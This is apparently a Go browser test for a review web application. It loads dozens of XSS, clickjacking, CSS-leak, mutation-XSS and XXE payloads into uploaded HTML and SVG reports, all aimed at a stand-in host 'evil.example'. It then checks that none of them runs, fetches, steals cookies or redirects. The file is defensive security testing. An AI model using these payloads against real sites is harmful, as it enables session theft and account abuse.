package ui

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"path"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
	"github.com/labstack/echo/v4"

	"sallyport/checks/browsertest"
	"sallyport/review"
	"sallyport/review/reviewtest"
)

// careless is a sanitiser that takes nothing away: what protects then is the
// answer alone.
type careless struct{}

func (careless) Sanitise(path string, data []byte) ([]byte, string, []review.Removal, error) {
	if strings.HasSuffix(path, ".svg") {
		return data, "image/svg+xml", nil, nil
	}
	return data, "text/html", nil, nil
}

// payloads try, each in a file of its own, to run, to fetch, to send, to lead
// away, to speak to the page around them or to change it. HIT is an address of
// the attacker's, JS a script that does all of it.
var payloads = []string{
	`<script>JS</script>`, `<script src="HIT"></script>`, `<script type="module">JS</script>`, `<img src="HIT" onerror="JS">`, `<img srcset="HIT 1x" src=x onerror="JS">`,
	`<svg onload="JS"><script>JS</script><image href="HIT"/><use href="HIT#a"/><set attributeName="onload" to="JS"/><animate onbegin="JS" attributeName="x" dur="1s"/></svg>`,
	`<svg><a><animate attributeName="href" values="javascript:JS" begin="0s"/><text y="20">x</text></a><foreignObject><iframe src="HIT"></iframe></foreignObject></svg>`,
	`<meta http-equiv="refresh" content="0;url=HIT">`, `<meta http-equiv="refresh" content="0;url=javascript:JS">`,
	`<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'"><script>JS</script>`,
	`<form action="HIT" id="f"><input name="a" value="1"></form><button form="f" style="position:fixed;inset:0">x</button>`,
	`<form action="/sign-out" method="post" id="f"></form><button form="f" style="position:fixed;inset:0">x</button>`,
	`<form action="/sign-out" method="post" target="_top"><button style="position:fixed;inset:0">x</button></form>`,
	`<a href="HIT" target="_top" style="position:fixed;inset:0">x</a>`, `<a href="HIT" target="_blank" rel="opener" style="position:fixed;inset:0">x</a>`,
	`<a href="HIT" target="_parent" style="position:fixed;inset:0">x</a>`, `<a href="javascript:JS" style="position:fixed;inset:0">x</a>`,
	`<a href="HIT" style="position:fixed;inset:0">x</a>`, `<a href="HIT" download style="position:fixed;inset:0">x</a>`, `<a href="#x" ping="HIT" style="position:fixed;inset:0">x</a>`,
	`<style>@import "HIT"; @font-face{font-family:x;src:url(HIT)} body{background:url(HIT);font-family:x} input[value^="a"]{background:url(HIT)}</style><input value="abc">x`,
	`<link rel="stylesheet" href="HIT"><link rel="prefetch" href="HIT"><link rel="preload" as="image" href="HIT"><link rel="icon" href="HIT"><link rel="manifest" href="HIT"><link rel="modulepreload" href="HIT">`,
	`<link rel="dns-prefetch" href="HIT"><link rel="preconnect" href="HIT"><link rel="prerender" href="HIT"><script type="speculationrules">{"prefetch":[{"urls":["HIT"]}]}</script>`,
	`<base href="HIT"><img src="a"><script src="b"></script><a href="c" style="position:fixed;inset:0">x</a>`,
	`<iframe src="HIT"></iframe><iframe srcdoc="<script>JS</script>"></iframe><iframe src="javascript:JS"></iframe><iframe src="data:text/html,<script>JS</script>"></iframe>`,
	`<object data="HIT"></object><embed src="HIT"><object data="data:text/html,<script>JS</script>"></object>`,
	`<video src="HIT" poster="HIT" autoplay></video><audio src="HIT" autoplay></audio><video><source src="HIT" onerror="JS"></video><track src="HIT">`,
	`<iframe src="/account"></iframe><img src="/account"><script src="/account"></script><link rel="stylesheet" href="/account">`,
	`<input autofocus onfocus="JS"><details open ontoggle="JS"><summary>x</summary></details><body onload="JS" background="HIT"><marquee onstart="JS">x</marquee>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=JS&gt;">`, `<svg></p><style><a id="</style><img src=1 onerror=JS>">`,
	`<noscript><p title="</noscript><img src=x onerror=JS>"></noscript>`, `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=JS src>">`,
	`<dialog open><form method="dialog"><button autofocus onclick="JS" style="position:fixed;inset:0">x</button></form></dialog>`,
	`<portal src="HIT"></portal><fencedframe src="HIT"></fencedframe><table background="HIT"><tr><td background="HIT">x</td></tr></table>`,
}

// drawings are the same as files of their own.
var drawings = []string{
	`<svg xmlns="http://www.w3.org/2000/svg" onload="JS"><script>JS</script></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg"><image href="HIT"/><use href="HIT#a"/><foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml" onload="JS"><img src="HIT"/><iframe src="HIT"/></body></foreignObject></svg>`,
	`<?xml-stylesheet href="HIT"?><svg xmlns="http://www.w3.org/2000/svg"><style>@import url("HIT"); rect{fill:url(HIT#a)}</style><rect width="9" height="9"/></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg"><script href="HIT"/><animate onbegin="JS" attributeName="x" dur="1s"/><a href="HIT" target="_top"><rect width="500" height="500"/></a></svg>`,
	`<svg xmlns="http://www.w3.org/2000/svg"><a href="#x"><set attributeName="href" to="javascript:JS"/><rect width="500" height="500"/></a><h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=HIT"/></svg>`,
	`<!DOCTYPE svg [<!ENTITY x SYSTEM "HIT">]><svg xmlns="http://www.w3.org/2000/svg"><text y="20">&x;</text><filter id="f"><feImage href="HIT"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
}

const evil = "http://evil.example/"

// arm puts the attacker's address and script into a payload.
func arm(payload string, n int) string {
	hit := fmt.Sprintf("%s%d", evil, n)
	js := strings.ReplaceAll(`try{parent.document.title='owned'}catch(e){};try{top.location='HIT'}catch(e){};try{parent.postMessage('owned','*')}catch(e){};`+
		`try{opener.location='HIT'}catch(e){};try{open('HIT')}catch(e){};try{alert(document.cookie)}catch(e){};try{navigator.serviceWorker.register('/static/app.js')}catch(e){};`+
		`try{fetch('HIT',{mode:'no-cors'})}catch(e){};try{fetch('/account')}catch(e){};new Image().src='HIT'`, "HIT", hit)
	return strings.NewReplacer("HIT", hit, "JS", js).Replace(payload)
}

// attacked is what an attack has brought about.
type attacked struct {
	mu   sync.Mutex
	hits []string // asked of the attacker
	asks []string // asked of the application
	seen []string // dialogs and windows
}

func (a *attacked) add(list *[]string, text string) {
	a.mu.Lock()
	defer a.mu.Unlock()
	*list = append(*list, text)
}

func (a *attacked) forget() {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.hits, a.asks, a.seen = nil, nil, nil
}

// inFrames opens each path in a frame with no sandbox of its own, tells what the
// frame says, and clicks into it. It returns what is not as it was.
const inFrames = `(async paths => {
	const said = [];
	addEventListener('message', e => said.push('message ' + JSON.stringify(e.data)));
	const title = document.title, before = document.querySelector('main').innerHTML;
	for (const p of paths) {
		const f = document.createElement('iframe');
		f.width = 60; f.height = 60; f.className = 'attack';
		document.body.append(f);
		await new Promise(done => { f.onload = done; setTimeout(done, 2000); f.src = p; });
		f.focus();
		try { if (f.contentDocument) said.push(p + ' has our origin'); } catch {}
	}
	await new Promise(r => setTimeout(r, 700));
	if (document.title !== title) said.push('title ' + document.title);
	if (document.querySelector('main').innerHTML !== before) said.push('the page is another');
	return said;
})(%s)`

// Reports and figures that nobody cleaned are shown by the real pages in a real
// browser, with an attacker's server beside: nothing runs, nothing is fetched,
// nothing is sent, nothing leads away, and the page around stays as it was. So it
// is when contents have the pages' host, and, with every third, when they have one
// of their own.
func TestContentHasNoAuthority(t *testing.T) {
	s := newSite(t)
	s.Sanitiser = careless{}
	got := new(attacked)
	thief := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		got.add(&got.hits, r.Method+" "+r.URL.Path)
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Cross-Origin-Resource-Policy", "cross-origin")
	}))
	t.Cleanup(thief.Close)
	contents := hostileContents(t, s)

	ctx := browsertest.Start(t, chromedp.Flag("host-resolver-rules", "MAP evil.example "+strings.TrimPrefix(thief.URL, "http://")+", MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost"))
	if err := chromedp.Listen(ctx, func(ev any) {
		switch e := ev.(type) {
		case *page.EventJavascriptDialogOpening:
			got.add(&got.seen, "dialog: "+e.Message)
			go func() {
				_, _ = chromedp.Call(ctx, page.HandleJavaScriptDialog, page.HandleJavaScriptDialogParams{Accept: true})
			}()
		case *page.EventWindowOpen:
			got.add(&got.seen, "window: "+e.URL)
		}
	}); err != nil {
		t.Fatal(err)
	}
	b := &browserTab{t, ctx, s}
	b.do(chromedp.Navigate(s.url+"/sign-in"), chromedp.WaitReady("#maincontent"), chromedp.Click("#demo-ann"), chromedp.WaitReady("#signed-in-as"))
	attack(b, got, contents, "the pages' host")
	some := slices.DeleteFunc(slices.Clone(contents), func(path string) bool { return slices.Index(contents, path)%3 != 0 })
	attack(&browserTab{t, ctx, contentSite(t, s)}, got, some, "a host of its own")
}

// contentSite is the same site once more, which shows contents by another name.
// Whoever is signed in stays so: cookies know no ports.
func contentSite(t *testing.T, s *site) *site {
	t.Helper()
	srv := httptest.NewUnstartedServer(nil)
	o := s.ui.options
	_, port, _ := strings.Cut(srv.Listener.Addr().String(), ":")
	o.ContentHost, o.Sealer = "localhost:"+port, sealer(t)
	u, err := New(s.Service, o)
	if err != nil {
		t.Fatal(err)
	}
	srv.Config.Handler = u
	srv.Start()
	t.Cleanup(srv.Close)
	return &site{World: s.World, ui: u, url: srv.URL}
}

// attack opens every payload on a page of ann's, clicks into it, and fails unless
// that brought nothing about.
func attack(b *browserTab, got *attacked, contents []string, where string) {
	t := b.t
	t.Helper()
	got.forget()
	b.do(chromedp.Navigate(b.site.url+"/workspaces"), chromedp.WaitReady("#maincontent"))
	b.site.ui.echo.Pre(func(next echo.HandlerFunc) echo.HandlerFunc {
		return func(c echo.Context) error {
			if r := c.Request(); !ownLink(r, contents) {
				got.add(&got.asks, r.Method+" "+r.URL.Path)
			}
			if r := c.Request(); b.site.ui.apart(r) && len(r.Cookies()) > 0 {
				got.add(&got.seen, "a cookie, at the host of contents")
			}
			return next(c)
		}
	})
	list, err := json.Marshal(contents)
	if err != nil {
		t.Fatal(err)
	}
	for _, said := range evaluate[[]string](b, fmt.Sprintf(inFrames, list), chromedp.EvalAwaitPromise) {
		t.Errorf("%s: %s", where, said)
	}
	clickEach(b, len(contents))
	if here := evaluate[string](b, `location.pathname`); here != "/workspaces" {
		t.Errorf("%s: the page around has gone to %s", where, here)
	}
	if n := evaluate[int](b, `navigator.serviceWorker.getRegistrations().then(l => l.length)`, chromedp.EvalAwaitPromise); n != 0 {
		t.Errorf("%s: %d service workers", where, n)
	}
	if cookie := evaluate[string](b, `document.cookie`); cookie != "" {
		t.Errorf("%s: script sees the cookie %q", where, cookie)
	}
	got.mu.Lock()
	defer got.mu.Unlock()
	for _, what := range append(got.hits, got.seen...) {
		t.Errorf("%s: %s", where, what)
	}
	shown, sent := 0, 0
	for _, what := range got.asks {
		path, get := strings.CutPrefix(what, "GET ")
		switch {
		case get && slices.Contains(contents, path):
			shown++
		case get && b.site.ui.options.ContentHost != "" && strings.HasPrefix(path, "/contents/"):
			sent++
		default:
			t.Errorf("%s: the application was asked: %s", where, what)
		}
	}
	if shown != len(contents) || b.site.ui.options.ContentHost != "" && sent != len(contents) {
		t.Errorf("%s: %d of %d contents were shown, %d elsewhere", where, shown, len(contents), sent)
	}
}

// ownLink: a person clicked on a relative link of a report, which leads the
// report's own frame, and no more, to an address of ours that does not exist. No
// browser can be told to refuse that; it must come as from a stranger's site,
// without the cookie.
func ownLink(r *http.Request, contents []string) bool {
	at := path.Dir(r.URL.Path)
	return r.Method == http.MethodGet && path.Base(r.URL.Path) == "c" && (at == "/contents" || slices.Contains(contents, at+"/content")) &&
		len(r.Cookies()) == 0 && r.Header.Get("Sec-Fetch-Dest") == "iframe"
}

// hostileContents files every payload as ann and returns where it is shown.
func hostileContents(t *testing.T, s *site) []string {
	t.Helper()
	form := []string{"kind", "output", "group", "new", "new_group", "Reports"}
	write := func(kind string, list []string) {
		for i, p := range list {
			name := fmt.Sprintf("release/p%d.%s", i, kind)
			text := arm(p, i)
			if kind == "html" {
				text = "<!DOCTYPE html><title>Report</title><body>" + text
			}
			s.Workspaces.Write(reviewtest.Cohort, name, text)
			form = append(form, "file", name)
		}
	}
	write("html", payloads)
	write("svg", drawings)
	ann := s.as(t, "ann")
	ann.post("/workspaces/cohort/files", form...).want(http.StatusOK)
	var out []string
	for _, file := range ann.links(fileLink) {
		out = append(out, file+"/content")
	}
	if want := len(payloads) + len(drawings); len(out) != want {
		t.Fatalf("%d files were added, want %d", len(out), want)
	}
	return out
}

// clickEach clicks into the middle of every frame.
func clickEach(b *browserTab, n int) {
	b.t.Helper()
	for i := range n {
		at := evaluate[[]float64](b, fmt.Sprintf(`(f => { f.scrollIntoView({block: 'center'}); const r = f.getBoundingClientRect(); return [r.x + r.width / 2, r.y + r.height / 2] })(document.querySelectorAll('iframe.attack')[%d])`, i))
		b.do(chromedp.MouseClickXY(at[0], at[1]))
	}
	b.do(chromedp.Sleep(700 * time.Millisecond))
}
